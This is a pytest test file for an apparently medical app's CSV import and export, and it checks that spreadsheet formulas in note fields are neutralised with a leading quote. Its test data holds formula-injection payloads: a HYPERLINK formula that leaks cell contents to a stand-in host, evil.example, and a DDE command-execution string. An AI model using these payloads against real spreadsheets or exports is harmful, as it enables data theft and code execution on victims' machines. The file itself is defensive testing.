"""Formula injection: notes that a spreadsheet would run as formulas are imported as text and
come out of the CSV export neutralised (a leading ') and read back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from main import main

NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
         "-2+3", "@SUM(A1:A9)", "=1+1", "'=already quoted"]


def test_formula_notes_are_neutralised_in_the_csv_export(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "notes.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["time", "SBP", "DBP", "HR", "note"])
        for minute, note in enumerate(NOTES):
            writer.writerow([f"2024-05-01T10:{minute:02d}:00+02:00", 120, 80, 70, note])
    db = tmp_path / "m.sqlite"
    assert main(["import", str(source), "--db", str(db), "--patient", "P-1"]) == 0
    exported = tmp_path / "out.csv"
    assert main(["export", "--db", str(db), "--session", "1", "--format", "csv",
                 "-o", str(exported)]) == 0
    with exported.open(encoding="utf-8", newline="") as handle:
        notes = [row["note"] for row in csv.DictReader(handle)]
    # A quote before a formula is read as the app's own guard (its exports write it), so
    # "'=already quoted" is kept as "=already quoted" and guarded again on the way out.
    assert notes == ["'" + note for note in NOTES[:-1]] + ["'=already quoted"]
    # Read back, the guard comes off: the record keeps exactly what was written.
    again = tmp_path / "again.sqlite"
    assert main(["import", str(exported), "--db", str(again), "--patient", "P-1"]) == 0
    assert main(["export", "--db", str(again), "--session", "1", "--format", "csv",
                 "-o", str(tmp_path / "again.csv")]) == 0
    assert (tmp_path / "again.csv").read_bytes() == exported.read_bytes()
    capsys.readouterr()
